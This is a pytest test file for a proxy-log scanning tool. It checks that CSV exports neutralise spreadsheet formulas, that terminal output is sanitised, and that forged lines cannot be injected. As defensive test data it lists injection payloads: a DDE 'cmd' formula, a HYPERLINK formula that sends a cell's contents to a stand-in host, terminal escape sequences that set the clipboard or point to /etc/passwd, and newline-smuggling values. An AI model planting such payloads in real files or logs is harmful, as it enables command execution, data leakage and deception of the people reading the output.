"""Text of a log that is made to be obeyed: by a spreadsheet, a terminal, or whoever counts lines."""

import csv
import json
import os
import pty
import random
import re
import subprocess
import sys
import threading
import unicodedata
from pathlib import Path

import polars as pl
import pytest

from logan.schema import TABLES
from logan.vocabulary import LOOKALIKE
from tests.builders import fit_source, hit, result
from tests.conftest import Run
from tests.faults.logs import squid, write_log
from tests.package.builders import write

FORMULAS = (
    *(sign + "cmd|' /C calc'!A0" for sign in "=+-@"),
    *(blank + "=1+1" for blank in ("\t", "\r", "\n", " ", "\u00a0", "\u3000", "\ufeff", "\0")),
    *(sign + "1+1" for sign in "\uff1d\uff0b\uff0d\uff20"),
    '=HYPERLINK("http://x.example?"&A1,"ok")',
    "'=1",
    '"=1',
    "a;=1",
    "a\n=1",
    "a\r\n=1,=2",
    "\u2212" + "1",
)
#: What Excel, Calc and Sheets take for the start of a formula, blanks before it included.
OBEYED = re.compile(r"\A\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")
TEXTS = ("user", "client_ip", "method", "host", "path", "service", "source")


def cells(folder: Path) -> dict[str, list[dict[str, str]]]:
    found = {}
    for name in TABLES:
        with (folder / name).open(encoding="utf-8", newline="") as file:
            found[name] = list(csv.DictReader(file, strict=True))
    return found


@pytest.mark.parametrize("column", TEXTS)
def test_no_cell_of_any_file_is_a_formula(tmp_path: Path, column: str) -> None:
    rows = [hit("2024-01-02 09:00", **{"user": "ann", column: text}) for text in FORMULAS]
    rows += [row | {"bin": "mention"} for row in rows]
    rows += [row | {"bin": "cleared", "rule": LOOKALIKE} for row in rows[: len(FORMULAS)]]
    rejects = pl.LazyFrame({"source": FORMULAS, "line": 1, "reason": FORMULAS, "text": FORMULAS})
    account = fit_source(rows, FORMULAS[0], sha256=FORMULAS[1], format=FORMULAS[2])
    write(result(rows, sources=[account], rejects=rejects), tmp_path / "out")
    files = cells(tmp_path / "out")
    assert len(files["hits.csv"]) == len(files["mentions.csv"]) == len(FORMULAS)
    assert len(files["rejects.csv"]) == len(FORMULAS)
    assert any(row[column].startswith("'") for row in files["hits.csv"])
    for name, table in files.items():
        for row in table:
            assert None not in row, f"{name}: a value slipped into a cell of its own"
            for cell in row.values():
                assert not OBEYED.match(cell), f"{name}: {cell!r}"
                kinds = set(map(unicodedata.category, cell))
                assert not kinds & {"Cc", "Cf", "Zl", "Zp"}, f"{name}: {cell!r}"


def test_a_formula_can_be_read_as_it_was_logged(tmp_path: Path, run: Run) -> None:
    log = write_log(tmp_path / "access.log", [squid(user='=HYPERLINK("http://x.example")')])
    ran = run("scan", log, "--json", "--export", tmp_path / "out")
    assert json.loads(ran.out)["people"][0]["user"] == '=HYPERLINK("http://x.example")'
    assert cells(tmp_path / "out")["hits.csv"][0]["user"].startswith("'=HYPERLINK")


#: What moves a cursor, sets a title or a clipboard, opens a link, or turns the reading direction.
PIECES = (
    *("\x1b[2J", "\x1b]0;x\x07", "\x1b]8;;file:///etc/passwd\x1b\\", "\x1b]52;c;eA==\x07"),
    *("\x9b31m", "\x9d0;x\x9c", "\x1b[38;5;99m", "\x1bc", "\x07", "\x08", "\x0b", "\x0c", "\x7f"),
    *("\u202e", "\u2066", "\u200b", "\u200d", "\u2028", "\x85", "\ufeff", "\u115f", "\U000e0041"),
    *("[red]", "[/]", "[link=file:///x]", "[/oops]", ":smile:", "\\[", "{0}", "%s", "盛", "é", "a"),
)
SGR = re.compile(r"\x1b\[[0-9;]*m")


def fuzzed_names(number: int) -> list[str]:
    chance = random.Random(11)
    names = []
    for index in range(number):
        pieces = [chance.choice(PIECES) for _ in range(chance.randint(1, 6))]
        pieces += [chr(chance.randrange(1, 0xD7FF)) for _ in range(chance.randint(0, 3))]
        names.append("_".join("".join(pieces).split()) + str(index))
    return names


def on_a_terminal(arguments: list[str], term: str) -> str:
    """What the command shows on a terminal of 80 columns, as the terminal gets it."""
    ours, theirs = pty.openpty()
    got: list[bytes] = []

    def listen() -> None:
        try:
            while data := os.read(ours, 1 << 16):
                got.append(data)
        except OSError:  # how Linux says that the other side has closed
            return

    listener = threading.Thread(target=listen)
    listener.start()
    env = os.environ | {"TERM": term, "COLUMNS": "80", "LANG": "C.UTF-8", "PYTHONUTF8": "1"}
    env.pop("NO_COLOR", None)
    command = [sys.executable, "-m", "logan", *arguments]
    ran = subprocess.run(
        command,
        stdin=theirs,
        stdout=theirs,
        stderr=subprocess.PIPE,
        env=env,
        timeout=60,
        check=False,
    )
    os.close(theirs)
    listener.join(timeout=30)
    os.close(ours)
    assert (ran.returncode, ran.stderr) == (0, b"")
    return b"".join(got).decode("utf-8")


@pytest.fixture(scope="module")
def fuzzed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    names = fuzzed_names(10_000)
    lines = [squid(index // 4, name) for index, name in enumerate(names)]
    return write_log(tmp_path_factory.mktemp("fuzzed") / "access.log", lines)


def test_ten_thousand_fuzzed_names_on_a_plain_terminal(fuzzed: Path) -> None:
    page = on_a_terminal(["scan", str(fuzzed), "--top", "0"], "dumb")
    assert "10,000 hits on PimEyes by 10,000 users" in page
    assert all(letter.isprintable() or letter in "\r\n" for letter in page)


def test_ten_thousand_fuzzed_names_in_colour(fuzzed: Path) -> None:
    page = on_a_terminal(["scan", str(fuzzed), "--top", "0"], "xterm-256color")
    assert set(SGR.findall(page)) <= {"\x1b[0m", "\x1b[1m", "\x1b[2m", "\x1b[36m"}
    plain = SGR.sub("", page)
    assert "10,000 users" in plain
    assert all(letter.isprintable() or letter in "\r\n" for letter in plain)
    assert r"\x1b[38;5;99m" in plain


FORGED = squid(5, "boss").rstrip("\n")


@pytest.mark.parametrize(
    "end",
    [
        "\r",
        "\x0b",
        "\x0c",
        "\x1c",
        "\x1d",
        "\x1e",
        "\x85",
        "\u2028",
        "\u2029",
        "%0A",
        "%0D%0A",
        "\\n",
    ],
)
def test_a_forged_line_inside_a_line_is_no_line(tmp_path: Path, run: Run, end: str) -> None:
    url = f"http://pimeyes.com/en?x={end}{FORGED}"
    log = write_log(tmp_path / "access.log", [squid(1, "ann", url, method="GET"), squid(9, "ann")])
    ran = run("scan", log, "--json", "--export", tmp_path / "out")
    summary = json.loads(ran.out)
    assert summary["accounts"]["lines"] == 2
    assert sum(summary["accounts"]["bins"].values()) == 2
    assert summary["totals"]["hits"] + summary["accounts"]["bins"]["rejected"] == 2
    assert "boss" not in {person["user"] for person in summary["people"]}
    rows = cells(tmp_path / "out")
    assert [int(row["line"]) for row in rows["hits.csv"]][-1] == 2
    assert all(row["user"] != "boss" for row in rows["hits.csv"])
